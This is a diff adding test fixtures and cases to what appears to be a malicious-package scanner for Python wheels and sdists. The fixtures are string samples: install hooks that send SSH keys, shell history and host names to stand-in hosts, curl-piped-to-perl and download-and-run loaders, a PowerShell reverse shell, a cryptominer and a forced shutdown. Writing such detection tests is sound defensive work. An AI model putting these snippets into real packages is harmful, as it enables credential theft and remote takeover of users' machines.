@@ -117,6 +117,145 @@ setup(name="demo", version="1.0")
 subprocess.getoutput("dig @1.1.1.1 beacon.collect.example")
 subprocess.getoutput("pip install helper-payload -U")
 """
+DROP_RUN = """\
+import base64, os, subprocess
+BLOB = "aGVsbG8gd29ybGQ="
+def install():
+    target = os.path.join(os.getenv("TEMP"), "svc.bin")
+    with open(target, "wb") as handle:
+        handle.write(base64.b64decode(BLOB))
+    subprocess.Popen([target])
+install()
+"""
+# The first bytes of a PE header, base64: a literal that would be written out as a program.
+EMBEDDED_EXECUTABLE = (
+    'HEADER = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"\nx = 1\n'
+)
+UPLOAD = 'import os\nos.system("curl -s -F file=@/etc/hosts https://collect.example/up")\n'
+SHELL_HISTORY = """\
+import os, requests
+data = open(os.path.expanduser("~/.bash_history")).read()
+requests.post("https://collect.example/", data=data)
+"""
+BEACON_IN_CORE = """\
+import getpass, requests
+def main():
+    requests.post("https://collect.example/", json={"u": getpass.getuser()})
+"""
+MINER = """\
+import subprocess
+subprocess.Popen(["./worker", "-o", "stratum+tcp://pool.example:3333", "-u", "WALLET"])
+"""
+PY2_METHOD_DECODE = 'exec("cHJpbnQoMSk=".decode("base64"))\n'
+HOST_VARIABLE_SETUP = """\
+import os, requests
+from setuptools import setup
+from setuptools.command.install import install
+
+def report():
+    name = os.environ["COMPUTERNAME"]
+    requests.get("https://collect.example/?h=" + name)
+
+class Hook(install):
+    def run(self):
+        install.run(self)
+        report()
+
+setup(name="demo", cmdclass={"install": Hook})
+"""
+IP_LOGGER_SETUP = """\
+import urllib.request
+from setuptools import setup
+setup(name="demo")
+urllib.request.urlopen("https://iplogger.org/2abcd")
+"""
+CURL_COMMAND_SETUP = """\
+import os
+from setuptools import setup
+os.popen("curl -s https://collect.example/hit")
+setup(name="demo")
+"""
+CURL_PERL_SETUP = """\
+import subprocess
+from setuptools import setup
+subprocess.run("curl https://get.example/p | perl -", shell=True)
+setup(name="demo")
+"""
+TEMP_EXECUTABLE = """\
+import os, urllib.request
+
+def fetch(url):
+    path = os.getenv("LOCALAPPDATA") + "\\\\Temp\\\\update.exe"
+    with open(path, "wb") as out:
+        out.write(urllib.request.urlopen(url).read())
+    return path
+
+def start(path):
+    os.system(f"start {path}")
+
+start(fetch("https://files.example/u"))
+"""
+MISTYPED_FETCH_SETUP = """\
+import urllib.request
+from subprocess import run
+from setuptools import setup
+try:
+    urllib.urlrequest.urlretrieve("https://files.example/tool.exe", "tool.exe")
+    run(["start", "tool.exe"], shell=True)
+except Exception:
+    pass
+setup(name="demo")
+"""
+CURL_SENDS_KEY_SETUP = """\
+import os, subprocess
+from setuptools import setup
+key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
+subprocess.check_output(["curl", "https://collect.example/?k=" + key])
+setup(name="demo")
+"""
+REUSED_HANDLE = """\
+import os, urllib.request
+path = os.getenv("TEMP") + "/helper.dat"
+with open(path, "w") as f:
+    f.write(urllib.request.urlopen("https://files.example/s.txt").read().decode())
+os.system(f"start pythonw {path}")
+log = os.path.join(os.getenv("TEMP"), "log.txt")
+with open(log, "w") as f:
+    f.write("done")
+"""
+FQDN_BEACON = """\
+import json, socket, urllib.request
+
+def attempt(func):
+    try:
+        return func()
+    except Exception:
+        return ""
+
+data = json.dumps({"h": attempt(socket.getfqdn)})
+urllib.request.urlopen("https://collect.example/?d=" + data)
+"""
+POWERSHELL_SHELL_SETUP = """\
+import os
+from setuptools import setup
+os.system('powershell -nop -c "$c = New-Object System.Net.Sockets.TCPClient(\\'shell.example\\',4444);$s = $c.GetStream()"')
+setup(name="demo")
+"""
+SHUTDOWN_SETUP = """\
+import os
+from setuptools import setup
+os.system("shutdown /s -f -t 0")
+setup(name="demo")
+"""
+EXTENSION_SETUP = """\
+import os, subprocess
+from setuptools import setup
+target = os.getenv("APPDATA") + "\\\\Extension"
+subprocess.call(["cmd", "/c", "mkdir", target])
+with open(target + "\\\\background.js", "w") as handle:
+    handle.write("chrome.runtime.onInstalled.addListener(() => {});")
+setup(name="demo")
+"""
 MALICIOUS_PTH = "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"
 
 # Legitimate packages do all of these every day; none may be flagged.
@@ -277,6 +416,123 @@ CASES = [
         True,
     ),
     (
+        "drop-run",
+        wheel({"demo/__init__.py": DROP_RUN}),
+        "demo-1.0-py3-none-any.whl",
+        "drop-run",
+        True,
+    ),
+    (
+        "embedded executable",
+        wheel({"demo/__init__.py": EMBEDDED_EXECUTABLE}),
+        "demo-1.0-py3-none-any.whl",
+        "embedded-executable",
+        False,
+    ),
+    (
+        "command hijack",
+        wheel(
+            {
+                "demo/__init__.py": "def main():\n    pass\n",
+                "demo-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = demo:main\n",
+            }
+        ),
+        "demo-1.0-py3-none-any.whl",
+        "command-hijack",
+        False,
+    ),
+    (
+        "command-line upload",
+        wheel({"demo/__init__.py": UPLOAD}),
+        "d-1.0-py3-none-any.whl",
+        "exfil-sink",
+        True,
+    ),
+    (
+        "shell history sent",
+        wheel({"demo/__init__.py": SHELL_HISTORY}),
+        "demo-1.0-py3-none-any.whl",
+        "credential-exfil",
+        True,
+    ),
+    (
+        "beacon in a module the package's __init__ calls",
+        wheel(
+            {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
+        ),
+        "demo-1.0-py3-none-any.whl",
+        "phone-home",
+        True,
+    ),
+    (
+        "cryptominer",
+        wheel({"demo/__init__.py": MINER}),
+        "d-1.0-py3-none-any.whl",
+        "cryptominer",
+        True,
+    ),
+    (
+        "Python 2 str.decode('base64') into exec",
+        wheel({"demo/__init__.py": PY2_METHOD_DECODE}),
+        "demo-1.0-py3-none-any.whl",
+        "decode-exec",
+        True,
+    ),
+    ("host name variable sent", _sdist(HOST_VARIABLE_SETUP), "demo-1.0.tar.gz", "phone-home", True),
+    ("IP logger at install", _sdist(IP_LOGGER_SETUP), "demo-1.0.tar.gz", "exfil-sink", True),
+    (
+        "curl run at install",
+        _sdist(CURL_COMMAND_SETUP, "def f():\n    return 1\n"),
+        "demo-1.0.tar.gz",
+        "install-network",
+        False,
+    ),
+    ("curl | perl", _sdist(CURL_PERL_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
+        "download to a program in a temporary directory",
+        wheel({"demo/__init__.py": TEMP_EXECUTABLE}),
+        "demo-1.0-py3-none-any.whl",
+        "download-run",
+        True,
+    ),
+    ("mistyped urlretrieve", _sdist(MISTYPED_FETCH_SETUP), "demo-1.0.tar.gz", "download-run", True),
+    (
+        "secret sent by curl",
+        _sdist(CURL_SENDS_KEY_SETUP),
+        "demo-1.0.tar.gz",
+        "credential-exfil",
+        True,
+    ),
+    (
+        "file object name reused for a second file",
+        wheel({"demo/__init__.py": REUSED_HANDLE}),
+        "demo-1.0-py3-none-any.whl",
+        "drop-run",
+        True,
+    ),
+    (
+        "fully qualified host name sent",
+        wheel({"demo/__init__.py": FQDN_BEACON}),
+        "d.whl",
+        "phone-home",
+        True,
+    ),
+    (
+        "PowerShell reverse shell",
+        _sdist(POWERSHELL_SHELL_SETUP),
+        "demo-1.0.tar.gz",
+        "reverse-shell",
+        True,
+    ),
+    ("shutdown at install", _sdist(SHUTDOWN_SETUP), "demo-1.0.tar.gz", "destructive", True),
+    (
+        "script written into the profile",
+        _sdist(EXTENSION_SETUP),
+        "demo-1.0.tar.gz",
+        "install-write",
+        True,
+    ),
+    (
         "bundled executable",
         _sdist("from setuptools import setup\nsetup()\n", **{"bin/payload.exe": "MZ"}),
         "demo-1.0.tar.gz",
@@ -351,3 +607,108 @@ def test_rules_version_is_reported() -> None:
     from pipgate.proxy.scan import RULES_VERSION
 
     assert scan_archive(_sdist("x = 1\n"), "demo-1.0.tar.gz").rules_version == RULES_VERSION
+
+
+def test_a_console_script_named_after_the_project_is_not_a_hijack() -> None:
+    archive = wheel(
+        {
+            "pip/__init__.py": "def main():\n    pass\n",
+            "pip-1.0.dist-info/entry_points.txt": "[console_scripts]\npip = pip:main\npip3 = pip:main\n",
+        },
+        name="pip",
+    )
+    assert "command-hijack" not in {
+        f.rule for f in scan_archive(archive, "pip-1.0-py3-none-any.whl").findings
+    }
+
+
+def test_a_function_defined_but_not_called_at_import_weighs_less() -> None:
+    called = wheel(
+        {"demo/__init__.py": "from .core import main\nmain()\n", "demo/core.py": BEACON_IN_CORE}
+    )
+    defined = wheel(
+        {"demo/__init__.py": "from .core import main\n", "demo/core.py": BEACON_IN_CORE}
+    )
+    assert not POLICY.decide(scan_archive(called, "d.whl")).allowed
+    assert POLICY.decide(scan_archive(defined, "d.whl")).allowed
+
+
+def test_directories_named_with_test_or_doc_words_are_inert() -> None:
+    archive = _sdist(
+        "from setuptools import setup\nsetup()\n",
+        "def f():\n    return 1\n",
+        **{"manual tests/build.py": SETUP_DECODE_EXEC, "_test-data/gen.py": SETUP_DECODE_EXEC},
+    )
+    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
+
+
+def test_only_command_groups_can_hijack_a_command() -> None:
+    plugin = (
+        '[project]\nname = "demo"\n\n[project.entry-points."demo.extractors"]\npython = "demo:x"\n'
+    )
+    script = '[project]\nname = "demo"\n\n[project.scripts]\npip = "demo:main"\n'
+    cfg = "[options.entry_points]\nconsole_scripts =\n    sudo = demo:main\ndemo.plugins =\n    ls = demo:x\n"
+    rules = [
+        {
+            f.rule
+            for f in scan_archive(_sdist("x = 1\n", **{name: text}), "demo-1.0.tar.gz").findings
+        }
+        for name, text in (
+            ("pyproject.toml", plugin),
+            ("pyproject.toml", script),
+            ("setup.cfg", cfg),
+        )
+    ]
+    assert "command-hijack" not in rules[0]
+    assert "command-hijack" in rules[1]
+    assert "command-hijack" in rules[2]
+
+
+def test_getattr_of_builtins_by_a_runtime_name_is_not_obfuscation() -> None:
+    lookup = "import builtins\ndef find(name):\n    return getattr(builtins, name)\n"
+    hidden = "import builtins\nf = getattr(builtins, 'ex' + 'ec')\n"
+    assert scan_archive(wheel({"demo/__init__.py": lookup}), "d.whl").findings == ()
+    found = scan_archive(wheel({"demo/__init__.py": hidden}), "d.whl").findings
+    assert "obfuscated" in {f.rule for f in found}
+
+
+def test_a_bench_directory_is_inert() -> None:
+    archive = _sdist(
+        "from setuptools import setup\nsetup()\n",
+        "def f():\n    return 1\n",
+        **{"bench/run.py": DOWNLOAD_EXEC},
+    )
+    assert scan_archive(archive, "demo-1.0.tar.gz").findings == ()
+
+
+def test_a_calendar_version_is_not_a_placeholder_version() -> None:
+    def placeholder(version: str) -> bool:
+        archive = sdist(
+            {"PKG-INFO": pkg_info("demo", version), "demo/__init__.py": "def f():\n    return 1\n"},
+            root=f"demo-{version}",
+        )
+        found = scan_archive(archive, f"demo-{version}.tar.gz").findings
+        return "placeholder" in {f.rule for f in found}
+
+    assert not placeholder("2026.9.1")
+    assert placeholder("99.0.0")
+
+
+def test_an_empty_package_whose_install_uses_the_network_is_a_beacon() -> None:
+    beacon = "import urllib.request\nfrom setuptools import setup\nurllib.request.urlopen('https://collect.example/')\nsetup()\n"
+    report = scan_archive(_sdist(beacon), "demo-1.0.tar.gz")
+    assert {"install-network", "placeholder"} <= {f.rule for f in report.findings}
+    assert not POLICY.decide(report).allowed
+    with_code = scan_archive(_sdist(beacon, "def f():\n    return 1\n"), "demo-1.0.tar.gz")
+    assert POLICY.decide(with_code).allowed
+
+
+def test_pyarmor_packed_code_that_runs_on_import_is_held() -> None:
+    packed = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR')\n"
+    early = scan_archive(wheel({"demo/__init__.py": packed}), "d.whl")
+    assert "obfuscated" in {f.rule for f in early.findings}
+    assert not POLICY.decide(early).allowed
+    deep = scan_archive(
+        wheel({"demo/__init__.py": "x = 1\n", "demo/extra/packed.py": packed}), "d.whl"
+    )
+    assert POLICY.decide(deep).allowed
